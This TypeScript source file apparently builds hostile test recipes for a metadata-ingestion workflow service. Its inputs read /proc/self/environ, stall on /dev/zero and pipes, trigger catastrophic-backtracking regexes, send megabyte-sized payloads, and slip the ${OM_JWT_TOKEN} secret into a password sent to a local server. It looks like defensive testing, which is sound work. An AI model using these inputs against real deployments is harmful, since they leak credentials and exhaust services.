/** What the attacks need: the bystanders' database, a pipe, servers that answer without end. */
export interface Battlefield {
  readonly database: string;
  readonly pipe: string;
  readonly catalog: string;
  readonly talkativeCatalogPort: number;
  readonly endlessRowPort: number;
  readonly endlessRowsPort: number;
}

export interface Attack {
  readonly name: string;
  readonly workflow: 'metadataWorkflow' | 'lineageWorkflow';
  readonly recipeYaml: string;
}

/** Recipes as somebody who may start workflows would send them. */
export function attacks(field: Battlefield): Attack[] {
  const sqlite = { type: 'SQLite', databaseMode: field.database };
  const postgres = (port: number): object => ({
    type: 'Postgres',
    username: 'u',
    authType: { password: '${OM_JWT_TOKEN}' },
    hostPort: `127.0.0.1:${port}`,
    database: 'd',
  });
  const metadata = (name: string, connection: object, config: object = {}, catalog = field.catalog): Attack => ({
    name,
    workflow: 'metadataWorkflow',
    recipeYaml: recipe(catalog, {
      type: 'username' in connection ? 'postgres' : 'sqlite',
      serviceName: 'attacked',
      serviceConnection: { config: connection },
      sourceConfig: { config: { type: 'DatabaseMetadata', ...config } },
    }),
  });
  const queryLog = (path: string): Attack => ({
    name: `query log ${path.startsWith('/proc') || path.startsWith('/dev') ? path : 'a pipe'}`,
    workflow: 'lineageWorkflow',
    recipeYaml: recipe(field.catalog, {
      type: 'query-log-lineage',
      // One that is there, so that the log is reached.
      serviceName: 'harmless',
      sourceConfig: { config: { type: 'DatabaseLineage', queryLogFilePath: path } },
    }),
  });
  const pattern = (text: string): Attack =>
    metadata(`pattern ${text.length > 30 ? `of ${text.length} characters` : text}`, sqlite, {
      tableFilterPattern: { excludes: [text] },
    });
  return [
    queryLog('/proc/self/environ'),
    queryLog('/dev/zero'),
    queryLog(field.pipe),
    metadata('database a pipe', { ...sqlite, databaseMode: field.pipe }),
    pattern('^(.*)+_tmp$'),
    pattern('^(a+)+$'),
    pattern('^(a+)+\\1(a+)+\\2x$'),
    pattern('\\w'.repeat(20_000)),
    metadata('error of 5 MB', sqlite, {}, `http://127.0.0.1:${field.talkativeCatalogPort}/api`),
    metadata('a row without end', postgres(field.endlessRowPort)),
    metadata('rows without end', postgres(field.endlessRowsPort)),
    { name: '1 MiB of commas', workflow: 'metadataWorkflow', recipeYaml: `source: [${','.repeat(1_000_000)}]` },
    { name: '1 MiB of brackets', workflow: 'metadataWorkflow', recipeYaml: '['.repeat(1_000_000) },
  ];
}

function recipe(catalog: string, source: object): string {
  return JSON.stringify({
    source,
    sink: { type: 'metadata-rest', config: {} },
    workflowConfig: {
      openMetadataServerConfig: {
        hostPort: catalog,
        authProvider: 'openmetadata',
        securityConfig: { jwtToken: '${OM_JWT_TOKEN}' },
      },
    },
  });
}
